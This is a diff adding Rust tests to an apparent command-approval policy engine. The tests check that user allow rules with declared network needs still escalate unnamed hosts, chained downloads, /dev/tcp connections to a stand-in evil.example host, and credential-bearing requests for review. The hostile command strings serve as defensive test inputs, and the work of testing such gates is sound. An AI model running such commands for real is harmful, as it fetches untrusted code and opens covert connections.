@@ -1,6 +1,7 @@
 //! Decision tests: rule precedence, per-command allow rules, opaque lines, and the mode × policy
 //! matrix.
 
+use super::always;
 use super::*;
 use crate::mode::{Modes, SessionFacts, resolve};
 use rules::{RuleSource, builtin_rules};
@@ -498,5 +499,122 @@ fn names_match_the_json_form() {
     }
     for r in Route::ALL {
         assert_eq!(serde_json::to_value(r).unwrap(), r.as_str());
+    }
+}
+
+/// A user's `allow` rule for `program` that declares `needs` (as written by hand, or by an
+/// "always" answer to a network question).
+fn rule_with_needs(program: &str, needs: &str) -> Rule {
+    let mut rule = regex_rule(
+        &format!("user-allow-{program}"),
+        Field::Program,
+        &format!("^{program}$"),
+        RulePolicy::Allow,
+    );
+    rule.needs = Some(toml::from_str(needs).unwrap());
+    rule
+}
+
+#[test]
+fn the_network_a_users_rule_declares_is_not_asked_about_again() {
+    let mut config = TestConfig::builtin();
+    config.rules.push(rule_with_needs(
+        "npm",
+        r#"network = ["registry.npmjs.org:443"]
+writable = ["~/.npm"]"#,
+    ));
+    config
+        .rules
+        .push(rule_with_needs("curl", r#"network = [443]"#));
+    let d = decide_in("npm install", "ask", &config);
+    assert_eq!(
+        (d.decision, d.rule.as_deref()),
+        (Verdict::Allow, Some("user-allow-npm"))
+    );
+    assert_eq!(d.grant.network.to_string(), "tcp:registry.npmjs.org:443");
+    assert_eq!(d.grant.writable, ["~/.npm"]);
+    // Anything the rules do not hold is asked as before: a registry named on the line, a
+    // neighbour without a rule, a `/dev/tcp` connection, the whole network where the rule gives
+    // a port, a host the rule does not name, a project rule's needs.
+    for line in [
+        "npm install --registry https://npm.evil.example/",
+        "npm install && wget https://evil.example/x",
+        "npm install; echo hi > /dev/tcp/evil.example/443",
+        "curl \"$URL\"",
+        "curl http://evil.example/",
+        "npm ci && git push",
+    ] {
+        let d = decide_in(line, "ask", &config);
+        assert_eq!(
+            (d.decision, d.rule.as_deref()),
+            (Verdict::Ask, Some("builtin.network")),
+            "{line}"
+        );
+    }
+    // What only a person's yes to the line passes is never covered by a rule: ssh's agent socket.
+    config.rules.push(rule_with_needs(
+        "ssh",
+        r#"network = [22]
+sockets = ["ssh-agent"]"#,
+    ));
+    assert_eq!(
+        decide_in("ssh host uptime", "ask", &config).decision,
+        Verdict::Ask
+    );
+    // A rule from the project file declares nothing.
+    let mut project = TestConfig::builtin();
+    let mut rule = rule_with_needs(
+        "npm",
+        r#"network = ["registry.npmjs.org:443"]
+writable = ["~/.npm"]"#,
+    );
+    rule.source = RuleSource::Project("/p".into());
+    project.rules.push(rule);
+    assert_eq!(
+        decide_in("npm install", "ask", &project).rule.as_deref(),
+        Some("builtin.network")
+    );
+    // Without the rule's needs the same line is asked: what the test shows is the rule's doing.
+    assert_eq!(
+        decide_in("npm install", "ask", &TestConfig::builtin())
+            .rule
+            .as_deref(),
+        Some("builtin.network")
+    );
+}
+
+/// What an "always" answer would write: nothing the line did not show, and never a reach a rule
+/// cannot hold to the question's hosts or a cache the person's own tools run from later.
+#[test]
+fn always_is_offered_for_named_hosts_and_listening_ports_only() {
+    let offered = |line: &str| {
+        always::offered(&decide_ask(line))
+            .map(|a| (a.program, serde_json::to_string(&a.needs).unwrap()))
+    };
+    assert_eq!(
+        offered("curl -sS https://example.com/a"),
+        Some(("curl".into(), r#"{"network":["example.com:443"]}"#.into()))
+    );
+    assert_eq!(
+        offered("python3 -m http.server 8000"),
+        Some(("python3".into(), r#"{"listen":[8000]}"#.into()))
+    );
+    for line in [
+        // A cache outside the workspace that the person's own tools read later.
+        "npm install",
+        "cargo add serde",
+        "pip install requests",
+        // A port on any host, or the whole network.
+        "ssh host uptime",
+        "curl \"$URL\"",
+        "git pull",
+        // Two programs, or a credential variable the line names.
+        "curl https://a.example/ && wget https://b.example/",
+        "curl -H \"Authorization: $GH_TOKEN\" https://api.example/",
+        // Not asked at all, or asked by another rule.
+        "ls",
+        "git reset --hard",
+    ] {
+        assert_eq!(offered(line), None, "{line}");
     }
 }
